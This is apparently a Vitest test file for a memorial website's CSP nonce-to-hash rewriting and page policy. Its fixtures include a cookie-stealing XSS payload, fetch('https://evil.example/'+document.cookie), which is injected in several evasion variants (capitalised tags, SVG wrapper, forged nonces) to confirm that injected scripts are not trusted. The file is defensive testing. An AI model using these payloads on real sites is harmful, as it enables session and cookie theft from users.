import { createHash } from 'node:crypto';
import { Writable } from 'node:stream';

import { createElement as h } from 'react';
import { renderToPipeableStream } from 'react-dom/server';
import { describe, expect, test } from 'vitest';

import { DEFERRED_HYDRATION_SCRIPT } from '../hydration/deferred-hydration-script.ts';
import { DeferredScripts } from '../hydration/deferred-scripts.tsx';
import { TextSection } from '../memorials/page/sections/text-section.tsx';
import { ThemeStyle } from '../themes/theme-style.tsx';
import { CspNonce } from '../ui/csp-nonce.ts';
import {
  pagePolicy,
  readBytes,
  releaseBuffer,
  replaceNonces,
  responseWithBytes,
} from './page-response.server.ts';

const NONCE = '5f3c1d9e-secret';
const CSS = '.memorial{color:red}';
const STEAL = 'fetch("https://evil.example/"+document.cookie)';
const HIDE = 'body{display:none}';

function hashOf(text: string): string {
  return `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
}

function replaceNoncesOf(text: string) {
  const { page, hashes } = replaceNonces(Buffer.from(text), NONCE);
  return { html: page.toString(), hashes };
}

async function pageWith(html: string): Promise<string> {
  const chunks: Buffer[] = [];
  const section = { type: 'textSection', key: 'a', title: 'A life', html, isLong: false } as const;
  const theme = { themeId: 'plain', css: CSS, address: '/themes/plain.css', fonts: [] };
  return new Promise((resolve, reject) => {
    const sink = new Writable({
      write(chunk: Buffer, _encoding, done) {
        chunks.push(chunk);
        done();
      },
      final(done) {
        resolve(Buffer.concat(chunks).toString());
        done();
      },
    });
    const { pipe } = renderToPipeableStream(
      h(
        CspNonce,
        { value: NONCE },
        h(
          'html',
          { lang: 'en' },
          h('head', null, h(ThemeStyle, { style: theme })),
          h('body', null, h(TextSection, { section }), h(DeferredScripts)),
        ),
      ),
      { nonce: { style: NONCE }, onAllReady: () => pipe(sink), onError: reject },
    );
  });
}

test("the product's own script and style are hashed, and their nonces are removed", async () => {
  const { html, hashes } = replaceNoncesOf(await pageWith('<p>Ada</p>'));
  expect(hashes).toEqual({ scripts: [hashOf(DEFERRED_HYDRATION_SCRIPT)], styles: [hashOf(CSS)] });
  expect(html).not.toContain(NONCE);
  expect(html).not.toContain('nonce');
  expect(html).toContain(`<script>${DEFERRED_HYDRATION_SCRIPT}</script>`);
});

test.each([
  ['a script', `<script>${STEAL}</script>`],
  ['a script with the nonce of another page', `<script nonce="5f3c1d9e">${STEAL}</script>`],
  ['a script with an empty nonce', `<script nonce="">${STEAL}</script>`],
  ['a module', `<script type="module">${STEAL}</script>`],
  ['a script in capitals', `<SCRIPT>${STEAL}</SCRIPT>`],
  ['a script inside an SVG', `<svg><script>${STEAL}</script></svg>`],
  ['a style', `<style>${HIDE}</style>`],
])('%s injected by a text is not hashed', async (_, hostile) => {
  const rendered = await pageWith(hostile);
  expect(rendered).toContain(hostile);
  const { html, hashes } = replaceNoncesOf(rendered);
  expect(html).toContain(hostile);
  expect(hashes).toEqual({ scripts: [hashOf(DEFERRED_HYDRATION_SCRIPT)], styles: [hashOf(CSS)] });
});

test.each([
  ['an unclosed attribute', '<script data-rest="'],
  ['an unclosed tag', '<script '],
  ['an unclosed style', '<style data-rest='],
])("%s can't obtain a nonce", (_, open) => {
  const own = `<script nonce="${NONCE}">${DEFERRED_HYDRATION_SCRIPT}</script>`;
  const { hashes } = replaceNoncesOf(`${open}${own}<p>${STEAL}</p></script></style>`);
  expect(hashes).toEqual({ scripts: [hashOf(DEFERRED_HYDRATION_SCRIPT)], styles: [] });
});

test('text in any writing system stays unchanged, and is hashed as UTF-8', () => {
  const script = 'say("Ünïcödé 家族 🕯")';
  const text = `<p>Léa — 田中 🌿</p><script nonce="${NONCE}">${script}</script>`;
  expect(replaceNoncesOf(text)).toEqual({
    html: `<p>Léa — 田中 🌿</p><script>${script}</script>`,
    hashes: { scripts: [hashOf(script)], styles: [] },
  });
});

describe('the policy of a page', () => {
  const policy = pagePolicy({ scripts: ["'sha256-a'", "'sha256-b'"], styles: ["'sha256-c'"] });

  test('names each inline script and style by its hash', () => {
    expect(policy).toContain("script-src 'self' 'sha256-a' 'sha256-b';");
    expect(policy).toContain("style-src 'self' 'sha256-c';");
  });

  test('"no unsafe-inline", no eval, no frames, no base, forms to this origin only', () => {
    expect(policy).not.toMatch(/unsafe|\*|http:/);
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toContain("base-uri 'none'");
    expect(policy).toContain("form-action 'self'");
  });
});

test('a response made of bytes returns the same bytes, and its body can be read as a stream too', async () => {
  const bytes = Buffer.from('In loving memory — 家族');
  expect(await readBytes(responseWithBytes(bytes, { status: 200 }))).toBe(bytes);
  const rewrapped = new Response(responseWithBytes(bytes, {}).body, { status: 503 });
  expect(await rewrapped.text()).toBe('In loving memory — 家族');
});

test('any other response is read', async () => {
  expect((await readBytes(new Response('In loving memory'))).toString()).toBe('In loving memory');
});

test('releasing a buffer frees its memory', () => {
  const page = Buffer.alloc(100_000, 'a');
  releaseBuffer(page);
  expect(page.buffer.byteLength).toBe(0);
});

test('a short buffer is not released, because it shares its memory with others', () => {
  const shared = Buffer.from('In loving memory');
  const [one, other] = [shared.subarray(0, 9), shared.subarray(10)];
  releaseBuffer(one);
  expect(other.toString()).toBe('memory');
});
